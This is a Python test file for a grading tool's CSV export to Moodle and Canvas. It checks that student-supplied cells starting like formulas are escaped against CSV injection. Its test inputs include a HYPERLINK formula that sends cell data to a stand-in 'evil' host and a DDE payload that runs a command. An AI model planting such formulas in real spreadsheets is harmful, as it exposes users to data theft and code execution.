"""grader.upload: the Moodle worksheet and the Canvas import a TA opens in a spreadsheet before
uploading. A cell whose text a student chose (a name, an e-mail, Moodle's online text) and that
starts as a formula (``=``, ``+``, ``-``, ``@``, a tab or a carriage return) ran as one there (CSV
injection, OWASP); it now has a leading ``'``, as in grades.csv. The cells the platform matches
or reads (Moodle's Identifier, Grade and dates; Canvas's ID and SIS columns) stay as exported."""
from __future__ import annotations

import csv
import io
from pathlib import Path

from grader.discover import Submission, load_roster
from grader.upload import upload_file

#: A carriage return does not reach a cell: the roster's lines are split at it.
HOSTILE = ('=HYPERLINK("http://evil/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tTab")


def _table(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _csv(rows: list[list[str]]) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    return out.getvalue()


def _upload(path: Path, text: str, ids: tuple[str, ...] = ()) -> object:
    path.write_text(text, encoding="utf-8")
    roster = load_roster(path)
    subs = [Submission(id=sid, path=path.parent / f"{sid}.ipynb") for sid in ids]
    return upload_file(roster.match(subs), scores={sid: 90.0 for sid in ids})


def test_a_moodle_worksheet_has_no_formula_from_a_student_and_keeps_what_moodle_reads(tmp_path):
    header = ("Identifier,Full name,Email address,Online text,Status,Grade,Maximum Grade,"
              "Last modified (submission),Last modified (grade),Feedback comments\n")
    lines = _csv([[f"Participant {4240 + k}", name, f"{name}@x", name, "Submitted", "", "100.00", "-", "-", "-"]
                  for k, name in enumerate(HOSTILE)])
    upload = _upload(tmp_path / "Grades-RNN.csv", header + lines, ids=("participant_4240",))
    table = _table(upload.text)
    assert ",".join(table[0]) + "\n" == header
    for row, name in zip(table[1:], HOSTILE):
        assert row[1] == row[3] == "'" + name, row  # Full name, Online text
        assert row[2] == "'" + name + "@x"
        assert row[0].startswith("Participant ") and row[7:] == ["-", "-", "-"]  # Moodle's own
    assert table[1][5] == "90" and upload.filled == 1  # the grade, matched by the Identifier


def test_a_canvas_import_has_no_formula_in_a_students_name_and_keeps_its_ids(tmp_path):
    lines = _csv([[name, str(12340 + k), f"-s{k}", f"@login{k}", "A", ""] for k, name in enumerate(HOSTILE)])
    upload = _upload(tmp_path / "export.csv", "Student,ID,SIS User ID,SIS Login ID,Section,RNN (1234)\n"
                     "    Points Possible,,,,,100\n" + lines)
    table = _table(upload.text)
    assert table[1] == ["    Points Possible", "", "", "", "", "100"]
    for k, (row, name) in enumerate(zip(table[2:], HOSTILE)):
        assert row == ["'" + name, str(12340 + k), f"-s{k}", f"@login{k}", "A", ""], row


def test_a_canvas_export_without_sis_columns_still_gives_an_import(tmp_path):
    """An export by a TA not allowed to see SIS data has Student, ID and Section only (plom's issue
    2338): it was taken for no platform's export and no canvas-import.csv was written, without a
    word. Canvas finds a student by the ID alone."""
    upload = _upload(tmp_path / "export.csv", "Student,ID,Section,RNN (1234)\n    Points Possible,,,100\n"
                     '"Smith, Jane",12345,S1,\n"Roe, Rita",34567,S2,\n', ids=("12345",))
    assert upload is not None and not upload.problem
    assert _table(upload.text) == [["Student", "ID", "Section", "RNN (1234)"],
                                   ["    Points Possible", "", "", "100"],
                                   ["Smith, Jane", "12345", "S1", "90"], ["Roe, Rita", "34567", "S2", ""]]
    assert upload.filled == 1 and upload.left == ("34567 (no submission)",)


def test_a_canvas_export_keeps_its_integration_id_and_drops_the_totals(tmp_path):
    """An account with integration ids exports an ``Integration ID`` column between SIS Login ID and
    Section: kept, as Canvas's own column; the export's other columns (totals) are left out."""
    upload = _upload(tmp_path / "export.csv",
                     "Student,ID,SIS User ID,SIS Login ID,Integration ID,Section,RNN (1234),Current Score\n"
                     "    Points Possible,,,,,,100,(read only)\n"
                     '"Smith, Jane",12345,u1,jsmith,i1,S1,,88\n', ids=("12345",))
    assert _table(upload.text)[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Integration ID",
                                      "Section", "RNN (1234)"]
    assert _table(upload.text)[2] == ["Smith, Jane", "12345", "u1", "jsmith", "i1", "S1", "90"]


def test_a_roster_of_names_and_ids_is_no_canvas_export(tmp_path):
    """A roster a course made with the columns ``Student`` and ``ID`` and nothing of Canvas's gets
    no import file and no line about one."""
    assert _upload(tmp_path / "class.csv", "Student,ID,Email\nJane Smith,12345,j@x\n",
                   ids=("12345",)) is None
